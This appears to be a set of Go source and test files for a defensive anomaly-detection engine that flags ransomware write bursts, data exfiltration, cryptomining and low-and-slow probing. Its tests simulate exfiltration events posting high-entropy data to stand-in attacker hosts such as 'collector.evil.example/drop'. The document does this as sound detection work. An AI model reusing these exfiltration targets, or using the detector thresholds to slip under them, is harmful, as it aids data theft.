// types. Outputs and metadata are excluded, so the hash identifies the
// *code* content of a notebook — the property ransomware detection and
// threat-intel payload matching key on.
func (nb *Notebook) SourceHash() string {
	h := sha256.New()
	for i := range nb.Cells {
		c := &nb.Cells[i]
		fmt.Fprintf(h, "%s\x00%s\x00%s\x00", c.ID, c.CellType, c.Source)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// Stats summarizes a notebook for audit logs.
type Stats struct {
	Cells       int
	CodeCells   int
	Markdown    int
	Raw         int
	SourceBytes int
	OutputCount int
}

// Stat computes summary statistics.
func (nb *Notebook) Stat() Stats {
	var s Stats
	s.Cells = len(nb.Cells)
	for i := range nb.Cells {
		c := &nb.Cells[i]
		s.SourceBytes += len(c.Source)
		switch c.CellType {
		case CellCode:
			s.CodeCells++
			s.OutputCount += len(c.Outputs)
		case CellMarkdown:
			s.Markdown++
		case CellRaw:
			s.Raw++
		}
	}
	return s
}

// Normalize brings a parsed notebook to canonical form: ensures
// metadata maps are non-nil, code cells have non-nil output slices,
// and cell ids are unique (missing ids are assigned deterministically
// from content position). It returns the ids that were assigned.
func (nb *Notebook) Normalize() []string {
	var assigned []string
	if nb.Metadata == nil {
		nb.Metadata = map[string]json.RawMessage{}
	}
	seen := map[string]bool{}
	for i := range nb.Cells {
		c := &nb.Cells[i]
		if c.Metadata == nil {
			c.Metadata = map[string]json.RawMessage{}
		}
		if c.CellType == CellCode && c.Outputs == nil {
			c.Outputs = []Output{}
		}
		if c.ID == "" || seen[c.ID] {
			c.ID = deriveCellID(i, string(c.Source))
			assigned = append(assigned, c.ID)
		}
		seen[c.ID] = true
	}
	return assigned
}

func deriveCellID(index int, source string) string {
	h := sha256.Sum256([]byte(fmt.Sprintf("%d:%s", index, source)))
	return "cell-" + hex.EncodeToString(h[:6])
}

// Diff reports cell-level differences between two notebooks, keyed by
// cell id: added, removed, and modified (source changed). The vfs
// change journal uses this to characterize suspicious bulk rewrites.
type Diff struct {
	Added    []string
	Removed  []string
	Modified []string
}

// Empty reports whether the diff contains no changes.
func (d Diff) Empty() bool {
	return len(d.Added) == 0 && len(d.Removed) == 0 && len(d.Modified) == 0
}

// Compare computes a Diff from old to new.
func Compare(oldNB, newNB *Notebook) Diff {
	var d Diff
	oldByID := map[string]*Cell{}
	for i := range oldNB.Cells {
		oldByID[oldNB.Cells[i].ID] = &oldNB.Cells[i]
	}
	newByID := map[string]*Cell{}
	for i := range newNB.Cells {
		c := &newNB.Cells[i]
		newByID[c.ID] = c
		if prev, ok := oldByID[c.ID]; !ok {
			d.Added = append(d.Added, c.ID)
		} else if prev.Source != c.Source || prev.CellType != c.CellType {
			d.Modified = append(d.Modified, c.ID)
		}
	}
	for id := range oldByID {
		if _, ok := newByID[id]; !ok {
			d.Removed = append(d.Removed, id)
		}
	}
	sort.Strings(d.Added)
	sort.Strings(d.Removed)
	sort.Strings(d.Modified)
	return d
}
