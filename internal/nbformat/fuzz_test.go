package nbformat

import (
	"testing"
)

// Notebook JSON arrives from the network (the contents API accepts
// arbitrary .ipynb bodies) and from disk via the jscan --notebook
// path, so Parse must never panic on hostile input, and anything it
// accepts must survive normalize → marshal → reparse.
func FuzzParseNotebook(f *testing.F) {
	valid := New()
	valid.AppendCode("c1", "x = 1\nprint(x)\n")
	valid.AppendMarkdown("m1", "# title")
	validJSON, err := valid.Marshal()
	if err != nil {
		f.Fatal(err)
	}
	seeds := [][]byte{
		validJSON,
		[]byte(`{}`),
		[]byte(`{"nbformat":4,"nbformat_minor":5,"cells":[],"metadata":{}}`),
		[]byte(`{"nbformat":3,"cells":[]}`),                              // wrong major version
		[]byte(`{"nbformat":4,"cells":[{"id":"","cell_type":"code"}]}`),  // empty cell id
		[]byte(`{"nbformat":4,"cells":[{"id":"a","cell_type":"exec"}]}`), // bad cell type
		[]byte(`{"nbformat":4,"cells":[{"id":"a","cell_type":"markdown","outputs":[{"output_type":"stream"}]}]}`),
		[]byte(`{"nbformat":4,"cells":[{"id":"a","cell_type":"code","source":["line1\n","line2"]}]}`),
		[]byte(`{"nbformat":4,"cells":[{"id":"a","cell_type":"code","source":"x","outputs":[{"output_type":"execute_result"}]}]}`),
		[]byte(`[1,2,3]`),
		[]byte(`null`),
		[]byte(``),
		[]byte(`{"nbformat":4,"cells":[{"id":"a","cell_type":"code"},{"id":"a","cell_type":"code"}]}`), // dup id
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		nb, err := Parse(data)
		if err != nil {
			return // rejection is fine; panicking is not
		}
		// Accepted notebooks must round-trip through the canonical
		// form without becoming invalid.
		nb.Normalize()
		out, err := nb.Marshal()
		if err != nil {
			t.Fatalf("accepted notebook failed to marshal: %v", err)
		}
		if _, err := Parse(out); err != nil {
			t.Fatalf("normalized round-trip rejected: %v\ninput: %q\noutput: %q", err, data, out)
		}
		// Derived views must be safe on any accepted document.
		_ = nb.SourceHash()
		_ = nb.Stat()
		_ = nb.CodeCells()
	})
}
