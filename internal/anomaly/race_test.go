// 16-goroutine serial-equivalence race tests for every detector
// family, mirroring internal/rules/race_test.go: each goroutine is
// one actor's in-order stream, and the concurrent alert set must
// equal a serial run's — the confinement contract that lets the core
// engine shard detectors per actor.
package anomaly

import (
	"fmt"
	"sort"
	"sync"
	"testing"
	"time"

	"repro/internal/rules"
	"repro/internal/trace"
)

var raceBase = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func raceAlertKey(a rules.Alert) string {
	return fmt.Sprintf("%s|%s|%d|%s", a.RuleID, a.Group, a.Count, a.Time.UTC().Format(time.RFC3339Nano))
}

// runDetectorRace replays the per-actor streams through a fresh
// detector serially and through another concurrently (16 goroutines,
// one per actor), then compares sorted alert sets.
func runDetectorRace(t *testing.T, mk func() Detector, streams [][]trace.Event) {
	t.Helper()
	serial := mk()
	var want []string
	for _, st := range streams {
		for _, e := range st {
			for _, a := range serial.Process(e) {
				want = append(want, raceAlertKey(a))
			}
		}
	}
	if len(want) == 0 {
		t.Fatal("serial run fired no alerts; streams too tame to prove anything")
	}
	sort.Strings(want)

	concurrent := mk()
	var mu sync.Mutex
	var got []string
	var wg sync.WaitGroup
	for i := range streams {
		wg.Add(1)
		go func(st []trace.Event) {
			defer wg.Done()
			var local []string
			for _, e := range st {
				for _, a := range concurrent.Process(e) {
					local = append(local, raceAlertKey(a))
				}
			}
			mu.Lock()
			got = append(got, local...)
			mu.Unlock()
		}(streams[i])
	}
	wg.Wait()
	sort.Strings(got)

	if len(got) != len(want) {
		t.Fatalf("concurrent fired %d alerts, serial %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("alert sets diverge at %d:\nserial     %s\nconcurrent %s", i, want[i], got[i])
		}
	}
}

// perActor builds 16 streams from one template function.
func perActor(gen func(actor string) []trace.Event) [][]trace.Event {
	streams := make([][]trace.Event, 16)
	for i := range streams {
		streams[i] = gen(fmt.Sprintf("actor-%02d", i))
	}
	return streams
}

// TestRansomwareWriteBurstRace covers the write-burst + entropy-jump
// family: each actor rewrites a text file as ciphertext (jump) and
// bursts high-entropy writes (burst).
func TestRansomwareWriteBurstRace(t *testing.T) {
	streams := perActor(func(actor string) []trace.Event {
		at := func(j int) time.Time { return raceBase.Add(time.Duration(j) * time.Second) }
		evs := []trace.Event{
			{Time: at(0), Kind: trace.KindFileOp, Op: "write", User: actor,
				Target: "nb-" + actor + ".ipynb", Entropy: 4.0, Success: true},
			{Time: at(1), Kind: trace.KindFileOp, Op: "write", User: actor,
				Target: "nb-" + actor + ".ipynb", Entropy: 7.95, Success: true},
		}
		for j := 0; j < 6; j++ {
			evs = append(evs, trace.Event{Time: at(2 + j), Kind: trace.KindFileOp, Op: "write",
				User: actor, Target: fmt.Sprintf("f-%s-%d", actor, j), Entropy: 7.9, Success: true})
		}
		return evs
	})
	runDetectorRace(t, func() Detector { return NewRansomware(DefaultRansomwareConfig()) }, streams)
}

// TestExfilEntropyRace covers the entropy-exfil family: packed
// outbound payloads per actor.
func TestExfilEntropyRace(t *testing.T) {
	streams := perActor(func(actor string) []trace.Event {
		at := func(j int) time.Time { return raceBase.Add(time.Duration(j) * time.Second) }
		var evs []trace.Event
		for j := 0; j < 4; j++ {
			evs = append(evs, trace.Event{Time: at(j), Kind: trace.KindNetOp, Op: "POST",
				User: actor, Target: "http://collector.evil.example/drop",
				Bytes: 4096, Entropy: 7.8, Success: true})
		}
		return evs
	})
	runDetectorRace(t, func() Detector { return NewExfil(DefaultExfilConfig()) }, streams)
}

// TestEWMARateRace covers the EWMA rate-baseline family: a quiet
// per-actor outbound baseline followed by a volume spike whose
// z-score detection depends on that actor's own EWMA state.
func TestEWMARateRace(t *testing.T) {
	streams := perActor(func(actor string) []trace.Event {
		at := func(j int) time.Time { return raceBase.Add(time.Duration(j) * time.Second) }
		var evs []trace.Event
		for j := 0; j < 20; j++ {
			evs = append(evs, trace.Event{Time: at(j), Kind: trace.KindNetOp, Op: "GET",
				User: actor, Target: "http://conda.internal/repodata.json",
				Bytes: int64(500 + j%7), Entropy: 4.0, Success: true})
		}
		evs = append(evs, trace.Event{Time: at(20), Kind: trace.KindNetOp, Op: "POST",
			User: actor, Target: "http://collector.evil.example/drop",
			Bytes: 512 << 10, Entropy: 4.0, Success: true})
		return evs
	})
	runDetectorRace(t, func() Detector { return NewExfil(DefaultExfilConfig()) }, streams)
}

// TestMinerSustainedCPURace covers the sustained-CPU mining family:
// duty-cycled resource samples per kernel.
func TestMinerSustainedCPURace(t *testing.T) {
	streams := perActor(func(actor string) []trace.Event {
		kern := "kern-" + actor
		var evs []trace.Event
		tm := raceBase
		for j := 0; j < 6; j++ {
			tm = tm.Add(45 * time.Second)
			evs = append(evs, trace.Event{Time: tm, Kind: trace.KindSysRes,
				KernelID: kern, CPUMillis: 45_000, Success: true})
			tm = tm.Add(15 * time.Second)
		}
		return evs
	})
	runDetectorRace(t, func() Detector { return NewMiner(DefaultMinerConfig()) }, streams)
}

// TestLowSlowRace covers the low-and-slow family: machine-regular
// failing probe trains per source address.
func TestLowSlowRace(t *testing.T) {
	streams := make([][]trace.Event, 16)
	for i := range streams {
		ip := fmt.Sprintf("203.0.113.%d", 10+i)
		var evs []trace.Event
		for j := 0; j < 20; j++ {
			evs = append(evs, trace.Event{
				Time: raceBase.Add(time.Duration(j) * 30 * time.Second),
				Kind: trace.KindHTTP, Method: "GET", Path: "/api/kernels",
				Status: 403, SrcIP: ip, Success: false,
			})
		}
		streams[i] = evs
	}
	runDetectorRace(t, func() Detector { return NewLowSlow(DefaultLowSlowConfig()) }, streams)
}

// TestPerShardInstancesMatchGlobal pins the factory contract itself:
// routing each actor's stream to one of 8 per-shard instances (by
// trace.ActorKey) must fire exactly the alerts one shared instance
// fires, for every factory in the default suite.
func TestPerShardInstancesMatchGlobal(t *testing.T) {
	// One mixed stream per actor touching every detector family.
	streams := perActor(func(actor string) []trace.Event {
		at := func(j int) time.Time { return raceBase.Add(time.Duration(j) * time.Second) }
		var evs []trace.Event
		evs = append(evs,
			trace.Event{Time: at(0), Kind: trace.KindFileOp, Op: "write", User: actor,
				Target: "nb-" + actor, Entropy: 4.0, Success: true},
			trace.Event{Time: at(1), Kind: trace.KindFileOp, Op: "write", User: actor,
				Target: "nb-" + actor, Entropy: 7.9, Success: true},
			trace.Event{Time: at(2), Kind: trace.KindNetOp, Op: "POST", User: actor,
				Target: "http://collector.evil.example/drop", Bytes: 2 << 20, Entropy: 7.9, Success: true},
		)
		return evs
	})
	for _, f := range SuiteFactories() {
		global := f.New()
		var want []string
		for _, st := range streams {
			for _, e := range st {
				for _, a := range global.Process(e) {
					want = append(want, raceAlertKey(a))
				}
			}
		}
		shards := make([]Detector, 8)
		for i := range shards {
			shards[i] = f.New()
		}
		var got []string
		for _, st := range streams {
			for _, e := range st {
				d := shards[trace.ShardIndex(trace.ActorKey(e), len(shards))]
				for _, a := range d.Process(e) {
					got = append(got, raceAlertKey(a))
				}
			}
		}
		sort.Strings(want)
		sort.Strings(got)
		if len(got) != len(want) {
			t.Fatalf("%s: sharded fired %d, global %d", f.Name, len(got), len(want))
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("%s diverges at %d:\nglobal  %s\nsharded %s", f.Name, i, want[i], got[i])
			}
		}
	}
}
