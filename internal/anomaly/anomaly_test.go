package anomaly

import (
	"math"
	"strings"
	"testing"
	"time"

	"repro/internal/rules"
	"repro/internal/trace"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func at(offset time.Duration, e trace.Event) trace.Event {
	e.Time = t0.Add(offset)
	return e
}

func TestEWMAConverges(t *testing.T) {
	e := &EWMA{Alpha: 0.3}
	for i := 0; i < 100; i++ {
		e.Update(10)
	}
	if math.Abs(e.Mean()-10) > 0.01 {
		t.Fatalf("mean = %f", e.Mean())
	}
	if e.StdDev() > 0.5 {
		t.Fatalf("stddev = %f", e.StdDev())
	}
	if e.Samples() != 100 {
		t.Fatalf("samples = %d", e.Samples())
	}
}

func TestEWMAZScoreFlagsOutlier(t *testing.T) {
	e := &EWMA{Alpha: 0.2}
	for i := 0; i < 50; i++ {
		e.Update(100 + float64(i%5)) // baseline ~100-104
	}
	z := e.Update(10000)
	if z < 6 {
		t.Fatalf("outlier z = %f", z)
	}
}

func TestEWMAWarmupNoZ(t *testing.T) {
	e := &EWMA{Alpha: 0.2}
	for i := 0; i < 4; i++ {
		if z := e.Update(float64(i * 1000)); z != 0 {
			t.Fatalf("warmup z = %f", z)
		}
	}
}

func TestRansomwareBurst(t *testing.T) {
	d := NewRansomware(DefaultRansomwareConfig())
	var alerts []rules.Alert
	for i := 0; i < 5; i++ {
		alerts = append(alerts, d.Process(at(time.Duration(i)*time.Second, trace.Event{
			Kind: trace.KindFileOp, Op: "write", User: "mallory",
			Target: "nb" + string(rune('a'+i)), Entropy: 7.9, Success: true,
		}))...)
	}
	found := false
	for _, a := range alerts {
		if a.RuleID == "ANOM-RW-write-burst" {
			found = true
			if a.Class != rules.ClassRansomware || a.Group != "mallory" {
				t.Fatalf("alert = %+v", a)
			}
		}
	}
	if !found {
		t.Fatalf("burst not detected: %+v", alerts)
	}
}

func TestRansomwareEntropyJump(t *testing.T) {
	d := NewRansomware(DefaultRansomwareConfig())
	// First write: text entropy.
	if a := d.Process(at(0, trace.Event{
		Kind: trace.KindFileOp, Op: "write", User: "m",
		Target: "nb.ipynb", Entropy: 4.0, Success: true,
	})); len(a) != 0 {
		t.Fatalf("first write alerted: %+v", a)
	}
	// Rewrite as ciphertext.
	a := d.Process(at(time.Second, trace.Event{
		Kind: trace.KindFileOp, Op: "write", User: "m",
		Target: "nb.ipynb", Entropy: 7.95, Success: true,
	}))
	found := false
	for _, al := range a {
		if al.RuleID == "ANOM-RW-entropy-jump" {
			found = true
		}
	}
	if !found {
		t.Fatalf("entropy jump not detected: %+v", a)
	}
}

func TestRansomwareIgnoresBenignWrites(t *testing.T) {
	d := NewRansomware(DefaultRansomwareConfig())
	for i := 0; i < 50; i++ {
		a := d.Process(at(time.Duration(i)*time.Second, trace.Event{
			Kind: trace.KindFileOp, Op: "write", User: "alice",
			Target: "nb.ipynb", Entropy: 4.2, Success: true,
		}))
		if len(a) != 0 {
			t.Fatalf("benign write alerted: %+v", a)
		}
	}
}

func TestRansomwareBurstWindowExpires(t *testing.T) {
	cfg := DefaultRansomwareConfig()
	d := NewRansomware(cfg)
	// 5 high-entropy writes but spread 1 minute apart each — outside
	// the 2-minute window only 2-3 remain fresh at once... spread
	// wider: 3 minutes apart so never more than one in window.
	for i := 0; i < 5; i++ {
		a := d.Process(at(time.Duration(i)*3*time.Minute, trace.Event{
			Kind: trace.KindFileOp, Op: "write", User: "m",
			Target: "f" + string(rune('a'+i)), Entropy: 7.9, Success: true,
		}))
		for _, al := range a {
			if al.RuleID == "ANOM-RW-write-burst" {
				t.Fatalf("slow writes alerted: %+v", al)
			}
		}
	}
}

func TestExfilAbsoluteVolume(t *testing.T) {
	d := NewExfil(DefaultExfilConfig())
	a := d.Process(at(0, trace.Event{
		Kind: trace.KindNetOp, Op: "POST", User: "m",
		Target: "http://evil/drop", Bytes: 4 << 20, Entropy: 4.0, Success: true,
	}))
	found := false
	for _, al := range a {
		if al.RuleID == "ANOM-EX-volume-abs" {
			found = true
		}
	}
	if !found {
		t.Fatalf("bulk transfer not detected: %+v", a)
	}
}

func TestExfilEntropy(t *testing.T) {
	d := NewExfil(DefaultExfilConfig())
	a := d.Process(at(0, trace.Event{
		Kind: trace.KindNetOp, Op: "POST", User: "m",
		Target: "http://evil/drop", Bytes: 4096, Entropy: 7.9, Success: true,
	}))
	found := false
	for _, al := range a {
		if al.RuleID == "ANOM-EX-entropy" {
			found = true
		}
	}
	if !found {
		t.Fatalf("high-entropy upload not detected: %+v", a)
	}
}

func TestExfilBaselineZ(t *testing.T) {
	d := NewExfil(DefaultExfilConfig())
	// Establish a small-transfer baseline.
	for i := 0; i < 30; i++ {
		d.Process(at(time.Duration(i)*time.Second, trace.Event{
			Kind: trace.KindNetOp, Op: "GET", User: "alice",
			Target: "http://conda/pkg", Bytes: int64(400 + i%50), Entropy: 4.0, Success: true,
		}))
	}
	a := d.Process(at(time.Minute, trace.Event{
		Kind: trace.KindNetOp, Op: "POST", User: "alice",
		Target: "http://somewhere/up", Bytes: 600_000, Entropy: 4.0, Success: true,
	}))
	found := false
	for _, al := range a {
		if al.RuleID == "ANOM-EX-volume-z" {
			found = true
		}
	}
	if !found {
		t.Fatalf("volume z-score not detected: %+v", a)
	}
}

func TestExfilIgnoresFailedOps(t *testing.T) {
	d := NewExfil(DefaultExfilConfig())
	if a := d.Process(at(0, trace.Event{
		Kind: trace.KindNetOp, Op: "POST", Bytes: 10 << 20, Entropy: 8, Success: false,
	})); len(a) != 0 {
		t.Fatalf("failed op alerted: %+v", a)
	}
}

func TestMinerSingleBurn(t *testing.T) {
	d := NewMiner(DefaultMinerConfig())
	a := d.Process(at(0, trace.Event{
		Kind: trace.KindSysRes, KernelID: "k1", CPUMillis: 60_000, Success: true,
	}))
	found := false
	for _, al := range a {
		if al.RuleID == "ANOM-CM-single-burn" {
			found = true
		}
	}
	if !found {
		t.Fatalf("single burn not detected: %+v", a)
	}
}

func TestMinerDutyCycle(t *testing.T) {
	d := NewMiner(DefaultMinerConfig())
	var all []rules.Alert
	// 4 samples of 50s CPU each, one per minute: duty ~0.83.
	for i := 0; i < 4; i++ {
		all = append(all, d.Process(at(time.Duration(i)*time.Minute, trace.Event{
			Kind: trace.KindSysRes, KernelID: "k-miner", CPUMillis: 25_000, Success: true,
		}))...)
	}
	found := false
	for _, al := range all {
		if al.RuleID == "ANOM-CM-duty-cycle" {
			found = true
		}
	}
	if !found {
		t.Fatalf("duty cycle not detected: %+v", all)
	}
}

func TestMinerIgnoresLightUse(t *testing.T) {
	d := NewMiner(DefaultMinerConfig())
	for i := 0; i < 20; i++ {
		a := d.Process(at(time.Duration(i)*time.Minute, trace.Event{
			Kind: trace.KindSysRes, KernelID: "k1", CPUMillis: 500, Success: true,
		}))
		if len(a) != 0 {
			t.Fatalf("light use alerted: %+v", a)
		}
	}
}

func TestLowSlowDetectsRegularTrain(t *testing.T) {
	d := NewLowSlow(DefaultLowSlowConfig())
	var all []rules.Alert
	for i := 0; i < 20; i++ {
		all = append(all, d.Process(at(time.Duration(i)*30*time.Second, trace.Event{
			Kind: trace.KindHTTP, SrcIP: "198.51.100.9", Status: 403, Success: false,
		}))...)
	}
	if len(all) != 1 || all[0].RuleID != "ANOM-DS-low-slow" {
		t.Fatalf("alerts = %+v", all)
	}
	// Alerted flag prevents repeats.
	more := d.Process(at(20*30*time.Second, trace.Event{
		Kind: trace.KindHTTP, SrcIP: "198.51.100.9", Status: 403, Success: false,
	}))
	if len(more) != 0 {
		t.Fatal("re-alerted on same source")
	}
}

func TestLowSlowIgnoresJitteryHumans(t *testing.T) {
	d := NewLowSlow(DefaultLowSlowConfig())
	offsets := []time.Duration{0, 3, 40, 42, 100, 130, 135, 300, 310, 420, 500, 620, 700, 710, 800}
	for _, off := range offsets {
		a := d.Process(at(off*time.Second, trace.Event{
			Kind: trace.KindHTTP, SrcIP: "10.0.0.5", Status: 403, Success: false,
		}))
		if len(a) != 0 {
			t.Fatalf("human jitter alerted: %+v", a)
		}
	}
}

func TestLowSlowIgnoresSuccessfulTraffic(t *testing.T) {
	d := NewLowSlow(DefaultLowSlowConfig())
	for i := 0; i < 30; i++ {
		a := d.Process(at(time.Duration(i)*30*time.Second, trace.Event{
			Kind: trace.KindHTTP, SrcIP: "10.0.0.7", Status: 200, Success: true,
		}))
		if len(a) != 0 {
			t.Fatalf("successful traffic alerted: %+v", a)
		}
	}
}

func TestCoefficientOfVariation(t *testing.T) {
	if cv := coefficientOfVariation([]float64{10, 10, 10, 10}); cv != 0 {
		t.Fatalf("regular cv = %f", cv)
	}
	if cv := coefficientOfVariation([]float64{1, 100, 2, 200}); cv < 0.5 {
		t.Fatalf("jittery cv = %f", cv)
	}
	if cv := coefficientOfVariation([]float64{1, 2}); cv != -1 {
		t.Fatalf("short cv = %f", cv)
	}
}

func TestSuiteComplete(t *testing.T) {
	ds := Suite()
	if len(ds) != 4 {
		t.Fatalf("suite = %d detectors", len(ds))
	}
	desc := Describe(ds)
	for _, want := range []string{"ransomware", "exfil", "miner", "lowslow"} {
		if !strings.Contains(desc, want) {
			t.Errorf("describe missing %s: %s", want, desc)
		}
	}
}
