// Package anomaly implements the statistical detectors that complement
// the signature engine: EWMA rate baselines, a byte-entropy
// exfiltration detector, a write-burst + extension-churn ransomware
// detector, a sustained-CPU cryptomining detector, and the
// low-and-slow detector for the evasion attacks the paper warns about.
//
// Each detector consumes trace events and produces rules.Alert values
// so the core engine treats signature and anomaly findings uniformly.
//
// Detectors key all correlation state by trace.ActorKey of the
// trigger event — exactly the key sharded consumers route events by
// (user for file and net operations, kernel for resource samples,
// source address for transport probes, with the same fallbacks when
// a field is empty). That confinement is what lets the sharded core
// engine instantiate one detector set per actor shard — via Factory /
// SuiteFactories — and still fire exactly the alerts one global
// instance fires: an event can never consult another shard's state,
// because its state key IS its shard key. Individual detectors remain
// safe for concurrent use on their own (each guards its maps with a
// mutex), so embedding one directly in a serial pipeline keeps
// working.
package anomaly

import (
	"fmt"
	"math"
	"strings"
	"sync"
	"time"

	"repro/internal/rules"
	"repro/internal/trace"
)

// Detector consumes events and emits alerts.
type Detector interface {
	// Name identifies the detector in alerts.
	Name() string
	// Process evaluates one event, returning zero or more alerts.
	Process(e trace.Event) []rules.Alert
}

// Factory builds fresh detector instances. Sharded engines (the core
// package) instantiate one detector set per actor shard, so each
// shard's instance only ever sees the in-order event stream of the
// actors hashed to it; because detector state is keyed per actor, the
// union of per-shard alerts equals a single global instance's alerts.
type Factory struct {
	// Name identifies the detector family (matches Detector.Name of
	// the instances New returns).
	Name string
	// New returns a fresh, stateless-start instance.
	New func() Detector
}

// SuiteFactories returns factories for the default detector suite, in
// the same order Suite instantiates it.
func SuiteFactories() []Factory {
	return []Factory{
		{Name: "anomaly.ransomware", New: func() Detector { return NewRansomware(DefaultRansomwareConfig()) }},
		{Name: "anomaly.exfil", New: func() Detector { return NewExfil(DefaultExfilConfig()) }},
		{Name: "anomaly.miner", New: func() Detector { return NewMiner(DefaultMinerConfig()) }},
		{Name: "anomaly.lowslow", New: func() Detector { return NewLowSlow(DefaultLowSlowConfig()) }},
	}
}

// Build instantiates one detector per factory.
func Build(factories []Factory) []Detector {
	out := make([]Detector, len(factories))
	for i, f := range factories {
		out[i] = f.New()
	}
	return out
}

// ---- EWMA baseline ----

// EWMA is an exponentially weighted moving average with variance
// tracking, used for per-entity rate baselines.
type EWMA struct {
	Alpha    float64
	mean     float64
	variance float64
	n        int
}

// Update folds in an observation and returns the z-score of the
// observation against the pre-update baseline (0 during warmup).
func (e *EWMA) Update(x float64) float64 {
	if e.Alpha <= 0 {
		e.Alpha = 0.1
	}
	var z float64
	if e.n >= 5 && e.variance > 1e-12 {
		z = (x - e.mean) / math.Sqrt(e.variance)
	}
	if e.n == 0 {
		e.mean = x
	} else {
		diff := x - e.mean
		incr := e.Alpha * diff
		e.mean += incr
		e.variance = (1 - e.Alpha) * (e.variance + diff*incr)
	}
	e.n++
	return z
}

// Mean returns the current baseline mean.
func (e *EWMA) Mean() float64 { return e.mean }

// StdDev returns the current baseline standard deviation.
func (e *EWMA) StdDev() float64 { return math.Sqrt(e.variance) }

// Samples returns the number of observations folded in.
func (e *EWMA) Samples() int { return e.n }

// ---- Ransomware detector ----

// RansomwareConfig tunes the ransomware detector.
type RansomwareConfig struct {
	EntropyThreshold float64       // bits/byte over which a write is "encrypted-looking"
	BurstCount       int           // encrypted-looking writes to trigger
	BurstWindow      time.Duration // within this window
	// EntropyJump triggers on a single file whose write entropy rises
	// by this much versus its previous content entropy.
	EntropyJump float64
}

// DefaultRansomwareConfig returns tuned defaults.
func DefaultRansomwareConfig() RansomwareConfig {
	return RansomwareConfig{
		EntropyThreshold: 7.2,
		BurstCount:       5,
		BurstWindow:      2 * time.Minute,
		EntropyJump:      3.5,
	}
}

// Ransomware detects encryption sweeps over the content filesystem.
type Ransomware struct {
	cfg RansomwareConfig

	mu         sync.Mutex
	writeTimes map[string][]time.Time // actor key -> encrypted-looking write times
	// lastEntropy is keyed by actor+path, not bare path: entropy
	// history must stay confined to one actor or per-shard instances
	// (each seeing only its own actors' writes) would diverge from a
	// global one when two users touch the same file.
	lastEntropy map[string]float64
}

// NewRansomware returns a ransomware detector.
func NewRansomware(cfg RansomwareConfig) *Ransomware {
	if cfg.EntropyThreshold == 0 {
		cfg = DefaultRansomwareConfig()
	}
	return &Ransomware{
		cfg:         cfg,
		writeTimes:  map[string][]time.Time{},
		lastEntropy: map[string]float64{},
	}
}

// Name implements Detector.
func (d *Ransomware) Name() string { return "anomaly.ransomware" }

// Process implements Detector.
func (d *Ransomware) Process(e trace.Event) []rules.Alert {
	if e.Kind != trace.KindFileOp || (e.Op != "write" && e.Op != "create") || !e.Success {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	var alerts []rules.Alert
	actor := trace.ActorKey(e)

	// Per-file entropy jump: a notebook that was text suddenly
	// becomes ciphertext.
	entKey := actor + "\x00" + e.Target
	prev, seen := d.lastEntropy[entKey]
	d.lastEntropy[entKey] = e.Entropy
	if seen && e.Entropy-prev >= d.cfg.EntropyJump && e.Entropy >= d.cfg.EntropyThreshold {
		alerts = append(alerts, rules.Alert{
			RuleID: "ANOM-RW-entropy-jump", Class: rules.ClassRansomware,
			Severity: rules.SevHigh,
			Description: fmt.Sprintf("entropy of %s jumped %.1f -> %.1f bits/byte",
				e.Target, prev, e.Entropy),
			Time: e.Time, Group: actor, Trigger: e.Clone(), Count: 1,
		})
	}

	// Burst of encrypted-looking writes.
	if e.Entropy >= d.cfg.EntropyThreshold {
		times := d.writeTimes[actor]
		fresh := times[:0]
		for _, t := range times {
			if e.Time.Sub(t) <= d.cfg.BurstWindow {
				fresh = append(fresh, t)
			}
		}
		fresh = append(fresh, e.Time)
		d.writeTimes[actor] = fresh
		if len(fresh) >= d.cfg.BurstCount {
			d.writeTimes[actor] = nil
			alerts = append(alerts, rules.Alert{
				RuleID: "ANOM-RW-write-burst", Class: rules.ClassRansomware,
				Severity: rules.SevCritical,
				Description: fmt.Sprintf("%d high-entropy overwrites by %q within %s",
					len(fresh), actor, d.cfg.BurstWindow),
				Time: e.Time, Group: actor, Trigger: e.Clone(), Count: len(fresh),
			})
		}
	}
	return alerts
}

// ---- Exfiltration detector ----

// ExfilConfig tunes the exfiltration detector.
type ExfilConfig struct {
	// VolumeZ triggers when a user's outbound bytes-per-event z-score
	// exceeds this value against their EWMA baseline.
	VolumeZ float64
	// AbsoluteBytes triggers on any single outbound transfer at or
	// above this size regardless of baseline.
	AbsoluteBytes int64
	// EntropyThreshold flags outbound payloads that look packed.
	EntropyThreshold float64
	// ReadAmplification triggers when cumulative reads within Window
	// exceed this multiple of the user's prior average.
	Window time.Duration
}

// DefaultExfilConfig returns tuned defaults.
func DefaultExfilConfig() ExfilConfig {
	return ExfilConfig{
		VolumeZ:          6.0,
		AbsoluteBytes:    1 << 20, // 1 MiB in one shot
		EntropyThreshold: 7.0,
		Window:           5 * time.Minute,
	}
}

// Exfil detects data exfiltration through outbound volume and payload
// shape.
type Exfil struct {
	cfg ExfilConfig

	mu        sync.Mutex
	baselines map[string]*EWMA // actor key -> outbound bytes baseline
}

// NewExfil returns an exfiltration detector.
func NewExfil(cfg ExfilConfig) *Exfil {
	if cfg.VolumeZ == 0 {
		cfg = DefaultExfilConfig()
	}
	return &Exfil{cfg: cfg, baselines: map[string]*EWMA{}}
}

// Name implements Detector.
func (d *Exfil) Name() string { return "anomaly.exfil" }

// Process implements Detector.
func (d *Exfil) Process(e trace.Event) []rules.Alert {
	if e.Kind != trace.KindNetOp || !e.Success {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	var alerts []rules.Alert
	actor := trace.ActorKey(e)
	if e.Bytes >= d.cfg.AbsoluteBytes {
		alerts = append(alerts, rules.Alert{
			RuleID: "ANOM-EX-volume-abs", Class: rules.ClassExfiltration,
			Severity:    rules.SevCritical,
			Description: fmt.Sprintf("outbound transfer of %d bytes to %s", e.Bytes, e.Target),
			Time:        e.Time, Group: actor, Trigger: e.Clone(), Count: 1,
		})
	}
	if e.Entropy >= d.cfg.EntropyThreshold && e.Bytes >= 256 {
		alerts = append(alerts, rules.Alert{
			RuleID: "ANOM-EX-entropy", Class: rules.ClassExfiltration,
			Severity: rules.SevHigh,
			Description: fmt.Sprintf("outbound payload entropy %.2f bits/byte (%d bytes) to %s",
